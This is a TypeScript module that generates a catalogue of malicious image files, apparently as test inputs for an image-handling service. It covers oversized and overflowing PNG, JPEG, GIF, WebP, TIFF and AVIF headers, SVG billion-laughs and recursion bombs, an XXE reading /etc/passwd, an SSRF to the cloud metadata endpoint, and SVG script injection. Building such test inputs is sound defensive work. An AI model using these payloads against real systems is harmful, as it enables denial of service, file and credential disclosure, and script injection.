import { crc32, deflateSync } from 'node:zlib';

/** A file that is small to send, and large to look at. */
export interface Bomb {
  readonly name: string;
  make(): Buffer | Promise<Buffer>;
}

/** Class 17, by what is large. Those of `heavy` take the sender a second to make. */
export const BOMBS: readonly Bomb[] = [
  { name: 'PNG that says 2^31 − 1 on each side', make: () => png(0x7fffffff, 0x7fffffff, Buffer.alloc(64)) },
  { name: 'PNG that says 0 on each side', make: () => png(0, 0, Buffer.alloc(64)) },
  { name: 'PNG of one row of 2^31 − 1', make: () => png(0x7fffffff, 1, Buffer.alloc(64)) },
  { name: 'PNG of 100,000 × 100,000 that ends at once', make: () => png(100_000, 100_000, Buffer.alloc(12_501)) },
  { name: 'PNG of 14,000 × 14,000 that is all there', make: () => png(14_000, 14_000, Buffer.alloc(14_000 * 1751)) },
  { name: 'PNG of 60,000 × 60,000 that is all there', make: () => png(60_000, 60_000, Buffer.alloc(60_000 * 7501)) },
  {
    name: 'PNG with animation of 2^32 − 1 frames',
    make: () => png(64, 64, Buffer.alloc(64 * 9), chunk('acTL', Buffer.from('ffffffff00000000', 'hex'))),
  },
  { name: 'JPEG that says 65,535 on each side', make: () => jpeg(65_535, 65_535) },
  { name: 'JPEG with 5,000 scans', make: () => jpeg(8_000, 8_000, 5_000) },
  { name: 'GIF of 65,535 × 65,535 with 20,000 frames', make: () => gif(65_535, 65_535, 20_000) },
  { name: 'GIF of 2,000 frames, each its whole screen', make: () => gif(1_000, 1_000, 2_000, 1_000) },
  { name: 'WebP that says 16,383 on each side', make: () => webp(16_383, 16_383, 1) },
  { name: 'WebP of 3,000 frames of 16,384 × 16,384', make: () => webp(16_383, 16_383, 3_000) },
  { name: 'TIFF of 2^32 − 1 on each side', make: () => tiff(0xffffffff, 0xffffffff) },
  { name: 'TIFF of 100,000 × 100,000 in one strip of nothing', make: () => tiff(100_000, 100_000) },
  { name: 'AVIF that says 2^32 − 1 on each side', make: () => avif(0xffffffff, 0xffffffff) },
  { name: 'AVIF that says 30,000 on each side', make: () => avif(30_000, 30_000) },
  { name: 'HEIC that says 30,000 on each side', make: () => avif(30_000, 30_000, 'heic', 'hvc1') },
  {
    name: 'drawing of a million on each side',
    make: () => svg('<rect width="100%" height="100%"/>', '1000000', '1000000'),
  },
  { name: 'drawing of 1e30 on each side', make: () => svg('<rect width="100%" height="100%"/>', '1e30', '1e30') },
  { name: 'drawing that uses itself', make: () => svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>') },
  { name: 'drawing of a billion laughs', make: () => svg(laughs()) },
  { name: 'drawing with a billion entities', make: entities },
  { name: 'drawing 20,000 deep', make: () => svg('<g>'.repeat(20_000) + '</g>'.repeat(20_000)) },
  { name: 'drawing with blurs', make: () => svg(blurs()) },
  {
    name: 'drawing of a file of the machine',
    make: () =>
      svg('<image href="file:///etc/passwd" width="99" height="99"/><image href="/etc/passwd" width="9" height="9"/>'),
  },
  {
    name: 'drawing of a picture elsewhere',
    make: () => svg('<image href="http://169.254.169.254/latest/meta-data/" width="99" height="99"/>'),
  },
  {
    name: 'drawing with a script',
    make: () =>
      svg(
        '<script>alert(1)</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
      ),
  },
  {
    name: 'drawing with an external entity',
    make: () =>
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><text y="20">&x;</text></svg>',
      ),
  },
  { name: 'drawing of patterns in patterns', make: () => svg(patterns()) },
];

/** A PNG in one bit a pixel, of these rows. */
export function png(width: number, height: number, rows: Buffer, more: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const parts = [chunk('IHDR', head), more, chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...parts]);
}

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  return Buffer.concat([word(content.length), body, word(crc32(body))]);
}

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

/** A progressive JPEG whose scans hold next to nothing (ITU-T T.81). */
function jpeg(width: number, height: number, scans = 1): Buffer {
  const frame = Buffer.from([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  const scan = Buffer.concat([segment(0xda, Buffer.from([1, 1, 0, 0, 0, 0])), Buffer.alloc(4)]);
  return Buffer.concat([
    Buffer.from('ffd8', 'hex'),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc2, frame),
    segment(0xc4, Buffer.from([0x00, 1, 0, ...Array<number>(14).fill(0), 0])),
    ...Array<Buffer>(scans).fill(scan),
    Buffer.from('ffd9', 'hex'),
  ]);
}

function segment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 255]);
  return Buffer.concat([head, payload]);
}

/** A GIF of so many frames, each of one colour and `side` pixels a side (GIF89a). */
function gif(width: number, height: number, frames: number, side = 1): Buffer {
  const screen = Buffer.from([0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  const image = Buffer.alloc(10);
  image[0] = 0x2c;
  image.writeUInt16LE(side, 5);
  image.writeUInt16LE(side, 7);
  // Clear, one pixel, end: whoever wants more of a frame finds none.
  const frame = Buffer.concat([image, Buffer.from([2, 2, 0x44, 1, 0])]);
  return Buffer.concat([Buffer.from('GIF89a'), screen, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])]);
}

/** An extended WebP whose canvas is larger than its frames (RFC 9649). */
function webp(width: number, height: number, frames: number): Buffer {
  const canvas = Buffer.alloc(10);
  canvas[0] = frames > 1 ? 0x12 : 0x10;
  canvas.writeUIntLE(width, 4, 3);
  canvas.writeUIntLE(height, 7, 3);
  const lossless = Buffer.from('2f000000001007101111888808000000', 'hex');
  const frame = riff('ANMF', Buffer.concat([Buffer.alloc(16), riff('VP8L', lossless)]));
  const body =
    frames > 1 ? [riff('ANIM', Buffer.alloc(6)), ...Array<Buffer>(frames).fill(frame)] : [riff('VP8L', lossless)];
  const content = Buffer.concat([Buffer.from('WEBP'), riff('VP8X', canvas), ...body]);
  return riff('RIFF', content);
}

function riff(type: string, content: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.write(type, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
}

function tiff(width: number, height: number): Buffer {
  const rows: readonly (readonly [tag: number, value: number])[] = [
    [0x100, width],
    [0x101, height],
    [0x102, 8],
    [0x103, 1],
    [0x106, 1],
    [0x111, 8],
    [0x115, 1],
    [0x116, height],
    [0x117, 0xffffffff],
  ];
  const table = Buffer.alloc(2 + rows.length * 12 + 4);
  table.writeUInt16LE(rows.length, 0);
  for (const [index, [tag, value]] of rows.entries()) {
    table.writeUInt16LE(tag, 2 + index * 12);
    table.writeUInt16LE(4, 4 + index * 12);
    table.writeUInt32LE(1, 6 + index * 12);
    table.writeUInt32LE(value, 10 + index * 12);
  }
  return Buffer.concat([Buffer.from('49492a0008000000', 'hex'), table]);
}

/** A picture in boxes with one item that is all promise (ISO/IEC 23008-12). */
function avif(width: number, height: number, brand = 'avif', item = 'av01'): Buffer {
  const full = Buffer.alloc(4);
  const box = (type: string, ...parts: Buffer[]): Buffer => {
    const content = Buffer.concat(parts);
    return Buffer.concat([word(content.length + 8), Buffer.from(type, 'latin1'), content]);
  };
  const properties = box(
    'iprp',
    box('ipco', box('ispe', full, word(width), word(height))),
    box('ipma', full, word(1), Buffer.from('00010101', 'hex')),
  );
  const infe = box('infe', Buffer.from('0200000000010000', 'hex'), Buffer.from(item), Buffer.from([0]));
  const places = box('iloc', Buffer.from('00000000440000010001000000010000000000ffffff', 'hex'));
  const handler = box('hdlr', full, word(0), Buffer.from('pict'), Buffer.alloc(13));
  const meta = box(
    'meta',
    full,
    handler,
    box('pitm', full, Buffer.from([0, 1])),
    box('iinf', full, Buffer.from([0, 1]), infe),
    places,
    properties,
  );
  return Buffer.concat([
    box('ftyp', Buffer.from(brand), word(0), Buffer.from(`${brand}mif1`)),
    meta,
    box('mdat', Buffer.alloc(64)),
  ]);
}

function svg(content: string, width = '500', height = '500'): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${width}" height="${height}">${content}</svg>`,
  );
}

function laughs(): string {
  const levels = Array.from({ length: 12 }, (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`);
  return `<defs><rect id="l0" width="9" height="9"/>${levels.join('')}</defs><use href="#l12"/>`;
}

function entities(): Buffer {
  const lines = Array.from({ length: 10 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`);
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "ha">${lines.join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e10;</text></svg>`,
  );
}

function blurs(): string {
  return `<filter id="f" x="-500%" y="-500%" width="1100%" height="1100%">${'<feGaussianBlur stdDeviation="900"/><feTurbulence baseFrequency="9" numOctaves="999"/>'.repeat(60)}</filter><rect width="500" height="500" filter="url(#f)"/>`;
}

function patterns(): string {
  const nested = Array.from(
    { length: 12 },
    (_, at) =>
      `<pattern id="p${at}" width="1" height="1" patternUnits="userSpaceOnUse"><rect width="500" height="500" fill="url(#p${at + 1})"/></pattern>`,
  );
  return `<defs>${nested.join('')}</defs><rect width="500" height="500" fill="url(#p0)"/>`;
}
